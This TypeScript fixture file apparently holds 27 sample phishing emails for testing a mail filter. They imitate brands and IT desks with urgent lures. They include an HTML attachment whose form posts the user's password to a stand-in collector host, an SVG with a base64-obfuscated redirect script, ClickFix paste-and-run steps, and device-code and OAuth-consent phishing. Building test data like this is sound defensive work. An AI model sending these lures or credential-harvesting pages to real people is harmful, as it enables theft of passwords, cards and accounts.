// Attacks on passwords, cards and codes in the name of brands, worldwide and unknown. All domains are invented or reserved.
import type { WrittenMail } from './write-mail.ts'

export const CREDENTIAL_ATTACKS: readonly WrittenMail[] = [
  {
    name: 'en: mailbox password expires, link to workers.dev',
    from: 'Receiver Mail Desk <no-reply@northgrove-supplies.example>',
    subject: 'Password for kim@receiver.example expires in 24 hours',
    body: `Hello kim,
The password of your mailbox expires today at 18:00.
[Keep my current password](https://login-portal-81c2.quietmeadow.workers.dev/?u=kim@receiver.example)
IT Support`,
  },
  {
    name: 'en: microsoft quarantine digest behind a redirect',
    from: 'Microsoft 365 Quarantine <alerts@brightfold-office.example>',
    subject: '6 messages are held for kim@receiver.example',
    body: `Six incoming messages could not be delivered to your inbox because of a synchronisation failure.
[Release messages](https://www.google.com/url?q=https://release-queue.pages.dev/owa)
They will be removed permanently after 48 hours.`,
  },
  {
    name: 'en: docusign share, all passes, unknown domain',
    from: 'DocuSign Envelope <envelope@cedarpointhvac.example>',
    subject: 'Completed: please review the remittance agreement',
    body: `Your document is ready for signature.
[REVIEW DOCUMENT](https://cedarpointhvac-files.netlify.app/view/7731)
Do not share this access code with others: 5583-AC91`,
  },
  {
    name: 'en: netflix payment declined',
    from: 'Netflix <info@membership-billing-desk.example>',
    subject: 'Your membership is on hold',
    body: `We were unable to collect your last payment.
[Update payment details](https://membership-billing-desk.example/account)
If we do not hear from you within 3 days your profile will be closed.`,
  },
  {
    name: 'en: unknown credit union, account restricted',
    from: 'Harbor Lantern Credit Union <service@hlcu-members.example>',
    subject: 'We restricted your online banking',
    body: `For your protection we have limited your online banking after several failed sign-in attempts.
Please verify your details to restore access: [Restore access](https://hlcu-secure-verify.example/auth)
Failure to do so within 24 hours will result in permanent suspension.`,
  },
  {
    name: 'en: coinbase new device',
    from: 'Coinbase Security <no-reply@cb-account-watch.example>',
    subject: 'New sign-in from Vilnius',
    body: `A new device signed in to your wallet.
If this was not you, [secure your account](https://cb-account-watch.example/lock) now. Withdrawals are enabled for this device in 2 hours.`,
  },
  {
    name: 'en: voicemail with html file',
    from: 'Voice Portal <vm@riverbend-print.example>',
    subject: 'New voice message (0:47) for kim',
    body: `You received a voice message from +1 (555) 010-9932. Open the attached file to listen.`,
    files: [
      {
        name: 'VM_0047sec_kim.html',
        type: 'text/html',
        content:
          '<html><body><form action="https://collect.riverbend-print.example/p.php" method="post"><input name="email" value="kim@receiver.example"><input type="password" name="pw"><button>Listen</button></form></body></html>',
      },
    ],
  },
  {
    name: 'en: scan to email with svg',
    from: 'Scanner 4F <scan@receiver-office.example>',
    subject: 'Scanned document 0093 from Xerox WorkCentre',
    body: 'Please find the scanned document attached.',
    files: [
      {
        name: 'Scan_0093.svg',
        type: 'image/svg+xml',
        content:
          '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href=atob("aHR0cHM6Ly9zY2FuLXZpZXcuZXhhbXBsZS9hP2U9a2ltQHJlY2VpdmVyLmV4YW1wbGU=")</script></svg>',
      },
    ],
  },
  {
    name: 'en: hr handbook',
    from: 'Human Resources <hr@staff-portal-notice.example>',
    subject: 'Action required: acknowledge the revised Employee Handbook by Friday',
    body: `Dear employee,
The handbook was revised, including the policy on leave and salary increases. All staff must sign in and acknowledge it before the end of the week.
[Read and acknowledge](https://handbook-2026.web.app/receiver.example)`,
  },
  {
    name: 'en: mfa expires, qr picture only in words',
    from: 'IT Service Desk <mfa@secure-tenant-notice.example>',
    subject: 'Multi-factor authentication renewal',
    body: `Your authenticator registration expires today. Scan the QR code below with your phone's camera to keep access to your mailbox.
![QR code](https://secure-tenant-notice.example/q.png)`,
  },
  {
    name: 'en: device code',
    from: 'Priya Nair <priya.nair@harvestline-consulting.example>',
    subject: 'Invitation to our Teams call',
    body: `Hi Kim,
To join the meeting open [the sign-in page](https://microsoft.com/devicelogin) and enter the code G7KQ2WPLM. The code is valid for 15 minutes, so please do it right away and stay signed in.
Priya`,
  },
  {
    name: 'en: oauth consent',
    from: 'SharePoint Team <share@docs-collab-hub.example>',
    subject: 'An app needs your approval to open "Payroll 2026.xlsx"',
    body: `A file was shared with you. To open it, approve access for the viewer app.
[Approve and open](https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=3f6c9a52-1111-4222-8333-9a0b1c2d3e4f&response_type=code&redirect_uri=https%3A%2F%2Fviewer-files.example%2Fcb&scope=Mail.ReadWrite%20offline_access%20Files.Read.All)`,
  },
  {
    name: 'en: clickfix',
    from: 'Booking Guest Support <guest@reservation-case-desk.example>',
    subject: 'A guest left a complaint about your property',
    body: `Before you can read the complaint, confirm that you are human:
1. Press the Windows key + R
2. Press Ctrl + V
3. Press Enter
[Open the complaint](https://reservation-case-desk.example/c/55192)`,
  },
  {
    name: 'en: lookalike of paypal',
    from: 'PayPal <service@paypa1-secure.example>',
    subject: 'Your account is limited',
    body: `We noticed something unusual. [Resolve now](https://paypa1-secure.example/resolve)`,
  },
  {
    name: 'en: internal spoof failing dmarc',
    from: 'Receiver IT <it@receiver.example>',
    subject: 'Mail server migration tonight',
    auth: 'fail',
    body: `All mailboxes move to the new server tonight. [Sign in to migrate](https://mail-migrate-desk.example/receiver) or your mailbox will be deactivated.`,
  },
  {
    name: 'en: text shows the bank, leads elsewhere',
    from: 'Online Services <notice@accounts-hub-mail.example>',
    subject: 'Statement ready',
    body: 'Your statement is ready: [https://www.chase.com/statements](https://accounts-hub-mail.example/chs/index)',
  },
  {
    name: 'en: apple id, purchase dispute',
    from: 'Apple Support <receipt@orders-media-desk.example>',
    subject: 'Receipt for your order MX92PL: iPhone 17 Pro 1,299.00 USD',
    body: `Thank you for your purchase. If you did not make this order, [cancel it here](https://orders-media-desk.example/dispute) within 12 hours and confirm your card to receive the refund.`,
  },
  {
    name: 'en: facebook page violates',
    from: 'Meta Business Support <case@page-policy-appeals.example>',
    subject: 'Your page has been scheduled for permanent deletion',
    body: `Your page violates our community standards and copyright of others. Submit an appeal within 24 hours, otherwise your page will be deleted.
[Submit appeal](https://page-policy-appeals.example/case/100082)`,
  },
  {
    name: 'en: toll',
    from: 'SunPass Tolls <alert@toll-balance-notice.example>',
    subject: 'Outstanding toll',
    body: `Our records show an unpaid toll of $6.99 on your vehicle. To avoid a late fee of $50 settle it by 12 March: [Pay now](https://toll-balance-notice.example/pay)`,
  },
  {
    name: 'en: fax, image link only',
    from: 'eFax <fax@docs-inbound.example>',
    subject: 'New fax received: 3 pages',
    body: '[![You have a new fax of 3 pages. View fax.](https://docs-inbound.example/fax.png)](https://faxview.r2.dev/index.html)',
  },
  {
    name: 'en: aitm via safe links and open redirect',
    from: 'Accounts Payable <ap@millbrook-fabrication.example>',
    subject: 'Remittance advice 88213',
    head: 'Reply-To: ap.millbrook@gmail.com',
    body: `Please find the remittance of today's payment.
[Open remittance](https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.bing.com%2Fck%2Fa%3Fu%3Da1aHR0cHM6Ly9yZW1pdC12aWV3ZXIudmVyY2VsLmFwcC9raW0&data=05)`,
  },
  {
    name: 'en: streaming renewal, plain text',
    from: 'Spotify Premium <renew@stream-plan-desk.example>',
    subject: 'Payment failed, your Premium ends today',
    body: `Hi,
your payment for Premium failed. Update your card at https://stream-plan-desk.example/billing to keep listening without ads.`,
  },
  {
    name: 'en: amazon account locked with pdf in name only',
    from: 'Amazon.com <no-reply@order-care-desk.example>',
    subject: 'Your Amazon account has been locked',
    body: `We have locked your account and pending orders because the billing information did not match the card issuer's records.
[Verify now](https://bit.ly/3xAmzCare)`,
  },
  {
    name: 'en: health insurance',
    from: 'Medicare Enrollment <enroll@coverage-card-center.example>',
    subject: 'Your new Medicare card is waiting',
    body: `Your coverage card could not be mailed. Confirm your identity and Social Security number to receive it: [Confirm identity](https://coverage-card-center.example/id)`,
  },
  {
    name: 'en: shared file, canva',
    from: 'Laura Whitfield <lwhitfield@oakridge-dental.example>',
    subject: 'Laura Whitfield shared "Proposal 2026" with you',
    body: `Laura Whitfield has shared a secure document with you.
[VIEW DOCUMENT](https://www.canva.com/design/DAGxyz123/view)
Sign in with your email to view.`,
  },
  {
    name: 'en: storage full',
    from: 'Cloud Storage <alert@photo-backup-plan.example>',
    subject: 'Your photos will be deleted on 11 March',
    body: `Your cloud storage is full. Your photos and videos will be deleted unless you upgrade.
[Get 50 GB for free](https://photo-backup-plan.example/upgrade)`,
  },
  {
    name: 'en: antivirus renewal with link',
    from: 'McAfee Protection <notice@pc-care-plan.example>',
    subject: 'Your subscription has expired: 5 viruses found',
    body: `Your protection expired today and your device is infected with 5 viruses. [Renew now with 80% discount](https://pc-care-plan.example/r)`,
  },
]
